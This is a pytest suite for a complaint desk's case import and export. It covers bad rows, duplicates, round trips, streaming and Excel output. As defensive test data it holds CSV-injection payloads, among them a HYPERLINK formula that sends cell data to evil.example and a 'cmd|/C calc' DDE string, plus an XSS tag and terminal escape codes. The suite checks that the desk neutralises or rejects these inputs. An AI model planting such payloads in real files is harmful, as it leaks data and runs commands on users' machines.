"""Case import and export (services/transfer.py): bad rows, idempotence, round trips, streaming."""

from __future__ import annotations

import csv
import io
import json
import os
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import create_engine, event, func, make_url, select, text
from sqlalchemy.exc import DataError
from sqlmodel import col

from kesu_desk.config import Settings
from kesu_desk.domain.errors import DeskError, NotFoundError
from kesu_desk.domain.vocabulary import Status
from kesu_desk.services import cases, transfer
from kesu_desk.services.desk import Desk
from kesu_desk.services.drafts import CaseDraft
from kesu_desk.services.transfer import COLUMNS, ImportReport, export_cases, import_cases
from kesu_desk.services.users import add_user
from kesu_desk.store import transfer as store_transfer
from kesu_desk.store.models import Case, Customer

BAD_PHONE = "Please correct: Phone: not a valid phone number"
NO_DESCRIPTION = "Please correct: What happened: say what happened"
BAD_DATE = "Please correct: Purchase date: not a date (YYYY-MM-DD)"
BAD_SEVERITY = "Please correct: Severity: not one of the allowed values"


@pytest.fixture(autouse=True)
def _no_config_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KESU_DESK_CONFIG", str(tmp_path / "no-such-config.toml"))


def open_desk(url: str) -> Desk:
    desk = Desk.open(Settings(db=url))
    add_user(desk, "ag", "agent")
    return desk


@pytest.fixture(params=["sqlite", "postgresql"])
def source(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Desk]:
    """The desk under test; on PostgreSQL too when KESU_DESK_TEST_PG_URL names a test database."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'source.db'}"
    else:
        url = request.getfixturevalue("pg_url")
    desk = open_desk(url)
    yield desk
    desk.close()


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Desk]:
    """A second, empty database to import an export into."""
    desk = open_desk(f"sqlite:///{tmp_path / 'target.db'}")
    yield desk
    desk.close()


def write(path: Path, content: str) -> Path:
    path.write_text(content, encoding="utf-8", newline="")
    return path


def register(desk: Desk, **fields: Any) -> str:
    data: dict[str, Any] = {"phone": "13800138000", "customer_name": "李雷",
                            "description": "壶盖密封圈漏水"}
    data.update(fields)
    return cases.register_case(desk, "ag", CaseDraft.parse(data)).number


def case_count(desk: Desk) -> int:
    with desk.uow(write=False) as uow:
        return int(uow.session.execute(select(func.count()).select_from(Case)).scalar_one())


def stored(desk: Desk) -> list[tuple[str, str, str | None, str | None, int, bool]]:
    """(number, description, phone, email, severity, urgent) of every case, in id order."""
    with desk.uow(write=False) as uow:
        rows = uow.session.execute(
            select(col(Case.number), col(Case.description), col(Customer.phone),
                   col(Customer.email), col(Case.severity), col(Case.urgent))
            .join(Customer, col(Customer.id) == col(Case.customer_id))
            .order_by(col(Case.id))
        ).all()
        return [tuple(r) for r in rows]  # type: ignore[misc]


# -- import: bad rows --------------------------------------------------------------------------


CSV_WITH_BAD_ROWS = (
    "customer_name,phone,purchase_date,severity,description,status,department\n"  # 1
    "李雷,13800138000,2024-05-01,normal,壶盖漏水,closed,QA\n"  # 2 good (status ignored)
    "韩梅梅,12345,,,屏幕不亮,,\n"  # 3 bad phone
    "王芳,13900139000,,,,,\n"  # 4 no description
    "\n"  # 5 blank: skipped, not reported
    "赵强,13700137000,2024-13-45,,快递丢件,,\n"  # 6 bad date
    "钱多,13600136000,,extreme,发票开错,,\n"  # 7 unknown severity
    '孙悦,13500135000,,serious,"第一行,\n第二行 ""引号""",,\n'  # 8-9 good, two lines
    "周一,999,,,少发一件,,\n"  # 10 bad phone, after a two-line row
)


def test_csv_import_reports_each_bad_row_with_its_line_and_imports_the_rest(
    source: Desk, tmp_path: Path
) -> None:
    report = import_cases(source, write(tmp_path / "in.csv", CSV_WITH_BAD_ROWS), "ag")

    assert report == ImportReport(
        imported=2,
        duplicates=0,
        bad=[(3, BAD_PHONE), (4, NO_DESCRIPTION), (6, BAD_DATE), (7, BAD_SEVERITY), (10, BAD_PHONE)],
    )
    rows = stored(source)
    assert [r[1] for r in rows] == ["壶盖漏水", '第一行,\n第二行 "引号"']
    assert [r[2] for r in rows] == ["+8613800138000", "+8613500135000"]
    # An imported case starts as registered whatever the file says.
    assert cases.get_case(source, rows[0][0]).status is Status.REGISTERED


def test_jsonl_import_reports_broken_lines(source: Desk, tmp_path: Path) -> None:
    lines = [
        json.dumps({"phone": "13800138000", "description": "漏水", "severity": "minor"},
                   ensure_ascii=False),  # 1 good
        '{"phone": "13900139000", "description": "坏了"',  # 2 broken JSON
        "",  # 3 blank
        "[1, 2]",  # 4 not an object
        json.dumps({"phone": "12345", "description": "x"}),  # 5 bad phone
        json.dumps({"phone": "13700137000"}),  # 6 no description
        json.dumps({"phone": "13600136000", "description": "x", "purchase_date": "yesterday"}),
        json.dumps({"phone": "13500135000", "description": "x", "severity": "extreme"}),  # 8
        json.dumps({"phone": "13400134000", "description": "x", "colour": "red"}),  # 9 unknown key
        json.dumps({"phone": 13300133000, "description": "电话写成数字", "urgent": True}),  # 10 good
    ]
    report = import_cases(source, write(tmp_path / "in.jsonl", "\n".join(lines) + "\n"), "ag")

    assert report.imported == 2
    assert report.duplicates == 0
    assert report.bad == [
        (2, "Not valid JSON (column 45: Expecting ',' delimiter)."),
        (4, "Not a JSON object: each line must hold one case, {…}."),
        (5, BAD_PHONE),
        (6, NO_DESCRIPTION),
        (7, BAD_DATE),
        (8, BAD_SEVERITY),
        (9, "Unknown columns: colour (an import takes the columns of an export)."),
    ]
    assert [(r[2], r[4], r[5]) for r in stored(source)] == [
        ("+8613800138000", 0, False),
        ("+8613300133000", 3, True),  # urgent means critical
    ]


@pytest.mark.parametrize(
    ("name", "content", "bad"),
    [
        ("empty.csv", "", [(1, "The file is empty.")]),
        ("blank.jsonl", "\n  \n", [(1, "The file is empty.")]),
        ("header-only.csv", "phone,description\n", []),
        ("unknown.csv", "phone,description,colour\n13800138000,x,red\n",
         [(1, "Unknown columns: colour (an import takes the columns of an export).")]),
        ("count.csv", "phone,description\n13800138000,x,extra\n13900139000\n",
         [(2, "3 values where the header names 2 columns."),
          (3, "1 values where the header names 2 columns.")]),
        ("quote.csv", 'phone,description\n13800138000,"unterminated\n',
         [(2, "Unreadable CSV row: unexpected end of data.")]),
        ("stray.csv", 'phone,description\n13800138000,"a"b\n13900139000,ok\n',
         [(2, "Unreadable CSV row: ',' expected after '\"'.")]),
    ],
)
def test_unreadable_files_and_rows_are_reported_not_raised(
    source: Desk, tmp_path: Path, name: str, content: str, bad: list[tuple[int, str]]
) -> None:
    report = import_cases(source, write(tmp_path / name, content), "ag")
    assert report.bad == bad


def test_bytes_that_are_not_utf8_are_reported_on_their_line(source: Desk, tmp_path: Path) -> None:
    path = tmp_path / "mixed.csv"
    path.write_bytes(
        "phone,description\n13800138000,漏水\n".encode()
        + "13900139000,Café\n".encode("latin-1")
        + b"13700137000,ok\n"
    )
    report = import_cases(source, path, "ag")
    assert report.bad == [(3, "Not UTF-8 text: save the file as UTF-8 and import it again.")]
    assert report.imported == 2


def test_too_long_a_value_is_a_bad_row_not_a_failed_batch(source: Desk, tmp_path: Path) -> None:
    content = f"phone,description,product\n13800138000,x,{'K' * 129}\n13900139000,y,K-200\n"
    report = import_cases(source, write(tmp_path / "long.csv", content), "ag")
    assert report == ImportReport(1, 0, [(2, "Please correct: Product: too long: at most 128 characters")])


def test_a_row_the_database_refuses_is_reported_and_the_batch_goes_on(
    source: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_register_in = cases.register_in

    def register_in(uow: Any, desk: Desk, actor: str, draft: CaseDraft, **kw: Any) -> Any:
        view = real_register_in(uow, desk, actor, draft, **kw)
        if draft.description == "boom":
            raise DataError("INSERT …", {}, Exception("value too long for type varchar(128)"))
        return view

    monkeypatch.setattr(transfer, "register_in", register_in)
    content = "phone,description\n13800138000,fine\n13900139000,boom\n13700137000,also fine\n"
    report = import_cases(source, write(tmp_path / "in.csv", content), "ag")
    assert report == ImportReport(
        2, 0, [(3, "The database refused this row: value too long for type varchar(128)")]
    )
    assert [r[1] for r in stored(source)] == ["fine", "also fine"]


def test_format_is_sniffed_when_the_extension_says_nothing(source: Desk, tmp_path: Path) -> None:
    jsonl = write(tmp_path / "cases.txt", '\n  {"phone": "13800138000", "description": "x"}\n')
    csv_file = write(tmp_path / "cases.dat", "phone,description\n13900139000,y\n")
    assert import_cases(source, jsonl, "ag").imported == 1
    assert import_cases(source, csv_file, "ag").imported == 1


def test_region_reads_national_phone_numbers(source: Desk, tmp_path: Path) -> None:
    content = "phone,description\n(212) 555-0134,late delivery\n"
    report = import_cases(source, write(tmp_path / "us.csv", content), "ag", region="US")
    assert report.imported == 1
    assert stored(source)[0][2] == "+12125550134"


def test_an_unknown_actor_is_refused_before_reading(source: Desk, tmp_path: Path) -> None:
    with pytest.raises(NotFoundError):
        import_cases(source, write(tmp_path / "in.csv", CSV_WITH_BAD_ROWS), "nobody")


# -- import: idempotence -----------------------------------------------------------------------


def test_a_second_import_creates_no_duplicates(source: Desk, tmp_path: Path) -> None:
    path = write(tmp_path / "in.csv", CSV_WITH_BAD_ROWS)
    first = import_cases(source, path, "ag")
    second = import_cases(source, path, "ag")

    assert (first.imported, first.duplicates) == (2, 0)
    assert (second.imported, second.duplicates) == (0, 2)
    assert second.bad == first.bad
    assert case_count(source) == 2


def test_rows_with_numbers_are_recognised_by_number(source: Desk, tmp_path: Path) -> None:
    lines = [
        {"number": "KS-20240501-0007", "phone": "13800138000", "description": "漏水"},
        {"number": "KS-20240501-0008", "phone": "13900139000", "description": "坏了"},
        # Same number, different content: still the same case.
        {"number": "KS-20240501-0007", "phone": "13800138000", "description": "改过的描述"},
    ]
    path = write(tmp_path / "in.jsonl", "".join(json.dumps(x) + "\n" for x in lines))
    assert import_cases(source, path, "ag") == ImportReport(2, 1, [])
    assert import_cases(source, path, "ag") == ImportReport(0, 3, [])
    assert [r[0] for r in stored(source)] == ["KS-20240501-0007", "KS-20240501-0008"]


@pytest.mark.parametrize("batch_size", [5, 100])
def test_repeated_rows_in_one_file_are_duplicates_within_and_across_batches(
    source: Desk, tmp_path: Path, batch_size: int
) -> None:
    rows = "".join(f"1380013{i:04d},complaint {i % 5}\n" for i in range(12))
    path = write(tmp_path / "in.csv", "phone,description\n" + rows + rows)
    report = import_cases(source, path, "ag", batch_size=batch_size)
    assert (report.imported, report.duplicates, report.bad) == (12, 12, [])
    assert case_count(source) == 12


def test_the_unique_constraint_catches_what_the_check_missed(
    source: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two imports racing: the check before inserting sees nothing, the constraint refuses."""
    path = write(tmp_path / "in.csv", CSV_WITH_BAD_ROWS)
    import_cases(source, path, "ag")
    monkeypatch.setattr(store_transfer, "existing_keys", lambda *_: (set(), set()))
    report = import_cases(source, path, "ag")
    assert (report.imported, report.duplicates) == (0, 2)
    assert case_count(source) == 2


# -- round trip --------------------------------------------------------------------------------


def fill(desk: Desk) -> list[str]:
    numbers = [
        register(desk),
        register(desk, phone="", email="wang@example.com", customer_name="王芳",
                 description='line one, with "quotes"\nline two', caller_mood="angry"),
        register(desk, phone="139 0013 9000", urgent=True, product="电水壶 K-200",
                 purchase_date="2024-05-01", order_no="SO-1", batch="B7", category="quality"),
        register(desk, severity="minor", channel="email", customer_class="a_dealer",
                 customer_request="退款 ¥120"),
    ]
    cases.decide_validity(desk, "ag", numbers[3], founded=False, reason="outside warranty")
    return numbers


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_then_import_into_an_empty_database_keeps_the_cases(
    source: Desk, target: Desk, tmp_path: Path, fmt: transfer.Format
) -> None:
    numbers = fill(source)
    path = tmp_path / f"cases.{fmt}"
    with path.open("w", encoding="utf-8", newline="") as out:
        assert export_cases(source, out, fmt) == 4

    report = import_cases(target, path, "ag")

    assert report == ImportReport(4, 0, [])
    assert stored(target) == stored(source)
    assert [r[0] for r in stored(target)] == numbers
    # The counter moved past the imported numbers: the next case of that day gets a new one.
    assert register(target, description="new") not in numbers
    assert import_cases(target, path, "ag") == ImportReport(0, 4, [])


def test_csv_export_has_a_header_and_every_column(source: Desk) -> None:
    fill(source)
    out = io.StringIO(newline="")
    export_cases(source, out, "csv")
    lines = out.getvalue().splitlines()
    assert lines[0] == ",".join(COLUMNS)

    jsonl = io.StringIO()
    export_cases(source, jsonl, "jsonl")
    records = [json.loads(line) for line in jsonl.getvalue().splitlines()]
    assert list(records[0]) == list(COLUMNS)
    assert records[1]["description"] == 'line one, with "quotes"\nline two'
    assert records[2]["severity"] == "critical" and records[2]["urgent"] is True
    assert records[2]["purchase_date"] == "2024-05-01"
    assert records[3]["closure"] == "not_founded"
    assert records[0]["registered_at"].endswith("+00:00")
    assert "李雷" in jsonl.getvalue()  # ensure_ascii=False


def test_export_with_a_status_filter(source: Desk) -> None:
    numbers = fill(source)
    out = io.StringIO()
    assert export_cases(source, out, "jsonl", [Status.CLOSED]) == 1
    assert [json.loads(x)["number"] for x in out.getvalue().splitlines()] == [numbers[3]]

    out = io.StringIO()
    assert export_cases(source, out, "jsonl", [Status.REGISTERED, Status.CLOSED]) == 4
    out = io.StringIO()
    assert export_cases(source, out, "csv", [Status.APPROVED]) == 0
    assert out.getvalue().splitlines() == [",".join(COLUMNS)]


# -- streaming ---------------------------------------------------------------------------------


def test_export_reads_one_batch_at_a_time_and_writes_it_before_the_next(source: Desk) -> None:
    for i in range(17):
        register(source, description=f"complaint {i}")
    reads: list[int] = []
    out = io.StringIO()

    def on_execute(conn: Any, cursor: Any, statement: str, *_: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT") and "FROM cases" in statement:
            reads.append(out.getvalue().count("\n"))

    event.listen(source.engine, "before_cursor_execute", on_execute)
    try:
        assert export_cases(source, out, "jsonl", batch_size=5) == 17
    finally:
        event.remove(source.engine, "before_cursor_execute", on_execute)
    # Rows written when each batch is read: 0, 5, 10, 15; the short fourth batch is the last.
    assert reads == [0, 5, 10, 15]
    numbers = [json.loads(x)["number"] for x in out.getvalue().splitlines()]
    assert numbers == sorted(numbers) and len(set(numbers)) == 17


@pytest.mark.slow
def test_export_streams_in_key_set_batches(tmp_path: Path) -> None:
    desk = open_desk(f"sqlite:///{tmp_path / 'big.db'}")
    draft = CaseDraft.parse({"phone": "13800138000", "description": "批量"})
    with desk.uow() as uow:
        for _ in range(3000):
            cases.register_in(uow, desk, "ag", draft)
        uow.commit()

    out = io.StringIO(newline="")
    assert export_cases(desk, out, "csv") == 3000
    assert len(out.getvalue().splitlines()) == 3001

    # Each read asks for at most one batch after the last id written, and the rows of a batch
    # are written before the next is read.
    reads: list[tuple[Any, int]] = []
    out = io.StringIO()

    def on_execute(conn: Any, cursor: Any, statement: str, params: Any, *_: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT") and "FROM cases" in statement:
            reads.append((params, out.getvalue().count("\n")))

    event.listen(desk.engine, "before_cursor_execute", on_execute)
    try:
        assert export_cases(desk, out, "jsonl") == 3000
    finally:
        event.remove(desk.engine, "before_cursor_execute", on_execute)
        desk.close()

    assert [written for _, written in reads] == [0, 1000, 2000, 3000]
    assert all(transfer.EXPORT_BATCH in params for params, _ in reads)
    assert "LIMIT" in str(store_transfer.export_select(0, (), transfer.EXPORT_BATCH))


# -- case numbers and registration times that arrive with a row ----------------------------------


def test_numbers_and_times_that_are_not_a_case_number_or_a_registration_are_bad_rows(
    source: Desk, tmp_path: Path
) -> None:
    today = source.calendar.local_date(datetime.now(UTC)).strftime("%Y%m%d")
    rows = [
        {"number": f"KS-{today}-2147483647"},  # over the counter's column on PostgreSQL
        {"number": f"KS-{today}-9223372036854775807"},  # … and on SQLite
        {"number": f"KS-{today}-99999999999"},  # twelve digits
        {"number": "=1+1"},
        {"number": "<img src=x onerror=alert(1)>"},
        {"number": f"KS-{today}-0000"},  # counters start at 1
        {"number": f"KS-{today}-00012"},  # not how the desk writes 12
        {"number": "KS-20261341-0001"},  # no such day
        {"number": "KS-00010101-0001"},
        {"number": "KS-29990101-0001"},
        {"registered_at": "0001-01-01T00:00:00+00:00"},
        {"registered_at": "2999-01-01T00:00:00+00:00"},
    ]
    path = tmp_path / "poison.jsonl"
    write(path, "".join(
        json.dumps({"phone": f"1380013{i:04d}", "description": "漏水", **row}) + "\n"
        for i, row in enumerate(rows)
    ))
    report = import_cases(source, path, "ag")
    assert report.imported == 0
    assert [line for line, _ in report.bad] == list(range(1, len(rows) + 1))
    for line, reason in report.bad:
        field = "Registered at" if "registered_at" in rows[line - 1] else "Case number"
        assert reason.startswith(f"Please correct: {field}: "), reason
        assert "1990-01-01" in reason, reason
    assert "KS-YYYYMMDD-NNNN" in report.bad[0][1]
    # Numbering goes on as before, on both engines.
    assert register(source) == f"KS-{today}-0001"
    assert register(source) == f"KS-{today}-0002"


def test_the_largest_counter_a_day_may_reach_is_accepted_and_numbering_stops_cleanly_there(
    source: Desk, tmp_path: Path
) -> None:
    today = source.calendar.local_date(datetime.now(UTC)).strftime("%Y%m%d")
    path = write(tmp_path / "last.jsonl", json.dumps(
        {"number": f"KS-{today}-999999", "phone": "13800138000", "description": "漏水"}) + "\n")
    assert import_cases(source, path, "ag").imported == 1
    with pytest.raises(DeskError) as refused:
        register(source)
    assert refused.value.code == "numbers_used_up"
    assert case_count(source) == 1


def test_an_older_database_with_a_poisoned_counter_numbers_on(source: Desk) -> None:
    """A counter an earlier import pushed to the end of the column is brought back to the day's
    largest good number by the upgrade."""
    from sqlalchemy import text

    from kesu_desk.store import schema

    desk = source
    url = desk.engine.url.render_as_string(hide_password=False)
    today = desk.calendar.local_date(datetime.now(UTC)).strftime("%Y%m%d")
    first = register(desk)
    end = 9223372036854775807 if desk.engine.dialect.name == "sqlite" else 2147483647
    from alembic import command

    cfg = schema.alembic_config(url)
    with desk.engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.downgrade(cfg, "0008")  # before the counters were mended
        conn.execute(text(f"UPDATE case_counters SET last = {end}"))
    again = Desk.open(Settings(db=url))
    assert schema.current_revision(again.engine) == schema.HEAD
    assert first == f"KS-{today}-0001"
    assert register(again) == f"KS-{today}-0002"
    again.close()


# -- CSV cells a spreadsheet would run (issue 11.5) --------------------------------------------

# What a spreadsheet runs when a cell starts with it (OWASP "CSV Injection"); a leading tab or
# carriage return cannot be stored (every text field is stripped), tests/unit/test_text.py has them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def twin(source: Desk, request: pytest.FixtureRequest) -> Iterator[Desk]:
    """A second, empty database on the same engine as ``source``."""
    if source.engine.dialect.name == "sqlite":
        desk = open_desk(f"sqlite:///{Path(str(source.engine.url.database)).with_name('twin.db')}")
        yield desk
        desk.close()
        return
    base = make_url(os.environ["KESU_DESK_TEST_PG_URL"])
    schema = f"kesu_test_{uuid.uuid4().hex[:12]}"
    admin = create_engine(base)
    with admin.begin() as conn:
        conn.execute(text(f"CREATE SCHEMA {schema}"))
    desk = open_desk(base.update_query_dict({"options": f"-csearch_path={schema}"})
                     .render_as_string(hide_password=False))
    try:
        yield desk
    finally:
        desk.close()
        with admin.begin() as conn:
            conn.execute(text(f"DROP SCHEMA {schema} CASCADE"))
        admin.dispose()


def jsonl(desk: Desk) -> list[dict[str, Any]]:
    out = io.StringIO()
    export_cases(desk, out, "jsonl")
    return [json.loads(line) for line in out.getvalue().splitlines()]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_import_undoes_it(
    source: Desk, twin: Desk, tmp_path: Path
) -> None:
    for start in ("=", "+", "-", "@", "'", "'=", "''"):
        register(
            source, customer_name=f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            email="" if start == "@" else f"{start}wang@example.com",
            product=f"{start}cmd|' /C calc'!A0", order_no=f"{start}1+1", batch=f"{start}B7",
            category=f"{start}quality", description=f"{start}SUM(A1:A9)",
            customer_request=f"{start}2+5+cmd|' /C calc'!A0",
        )
    register(source, description="-5", customer_request="-12.50")  # numbers stay numbers
    path = tmp_path / "cases.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        assert export_cases(source, out, "csv") == 8

    with path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    running = [c for c in cells if c.startswith(FORMULA_STARTS) and c not in ("-5", "-12.50")]
    assert running == []
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert "''=SUM(A1:A9)" in cells and "'''SUM(A1:A9)" in cells and "'+86 13800138000" not in cells
    assert "'+8613800138000" in cells  # a phone in E.164 starts with +

    report = import_cases(twin, path, "ag")
    assert report == ImportReport(8, 0, [])
    assert jsonl(twin) == jsonl(source)


# -- Excel (issue 17) ----------------------------------------------------------------------------


def test_an_excel_export_holds_text_as_text_and_import_reads_it_back(
    source: Desk, twin: Desk, tmp_path: Path
) -> None:
    """Numbers are numbers, times are dates; what customers typed is text in every cell (never a
    formula), and importing the workbook gives the same cases."""
    fill(source)
    register(source, phone="13700137000", customer_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
             description="@SUM(1+1)*cmd|' /C calc'!A0", order_no="+1+1", batch="-B7")
    path = tmp_path / "cases.xlsx"
    assert transfer.export_xlsx(source, path) == 5

    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.freeze_panes == "A2" and [c.value for c in sheet[1]] == list(COLUMNS)
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n", "b", "d"}  # no "f": nothing runs
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in [c.value for c in cells]
    registered = sheet.cell(row=2, column=COLUMNS.index("registered_at") + 1).value
    assert isinstance(registered, datetime)
    assert sheet.cell(row=4, column=COLUMNS.index("purchase_date") + 1).value == datetime(2024, 5, 1)

    report = import_cases(twin, path, "ag")
    assert report == ImportReport(5, 0, [])
    assert stored(twin) == stored(source)
    # Excel keeps times to the millisecond; the import puts them back in UTC.
    for imported, exported in zip(jsonl(twin), jsonl(source), strict=True):
        gap = datetime.fromisoformat(imported["registered_at"]) - datetime.fromisoformat(exported["registered_at"])
        assert abs(gap.total_seconds()) < 0.001
        assert imported["purchase_date"] == exported["purchase_date"]


def test_escape_codes_reach_the_workbook_as_pictures(source: Desk, tmp_path: Path) -> None:
    register(source, customer_name="李\x1b[2J\x1b]0;pwned\x07雷")
    path = tmp_path / "cases.xlsx"
    transfer.export_xlsx(source, path)
    names = [row[COLUMNS.index("customer_name")] for row in openpyxl.load_workbook(path).active.iter_rows(
        min_row=2, values_only=True)]
    assert names == ["李␛[2J␛]0;pwned␇雷"]


def test_an_export_that_cannot_be_completed_leaves_no_workbook(
    source: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """More cases than a sheet holds (here a sheet of 3 rows): refused in words, and neither the
    workbook nor its part is left behind."""
    fill(source)
    monkeypatch.setattr(transfer, "MAX_ROWS", 3)
    path = tmp_path / "cases.xlsx"
    with pytest.raises(DeskError) as refused:
        transfer.export_xlsx(source, path)
    assert refused.value.code == "too_many_rows"
    assert list(tmp_path.glob("*.xlsx*")) == [] and list(tmp_path.glob(".*partial")) == []


def test_a_file_that_is_no_workbook_is_one_bad_row(source: Desk, tmp_path: Path) -> None:
    path = write(tmp_path / "cases.xlsx", "number,description\n")
    report = import_cases(source, path, "ag")
    assert report.imported == 0 and report.bad == [(1, "not an Excel workbook (.xlsx), or a damaged one")]


def test_a_workbook_made_by_hand_is_imported_with_numbers_taken_as_text(source: Desk, tmp_path: Path) -> None:
    """A supervisor's own sheet: the phone typed as a number, the purchase date as a date."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["phone", "customer_name", "description", "purchase_date"])
    sheet.append([13800138000, "李雷", "壶盖漏水", datetime(2026, 3, 1)])
    sheet.append([None, None, None, None])  # an empty row is no case
    sheet.append(["12", "王芳", "", None])
    path = tmp_path / "own.xlsx"
    book.save(path)
    report = import_cases(source, path, "ag", region="CN")
    assert report.imported == 1 and [line for line, _ in report.bad] == [4]
    assert stored(source)[0][2] == "+8613800138000"
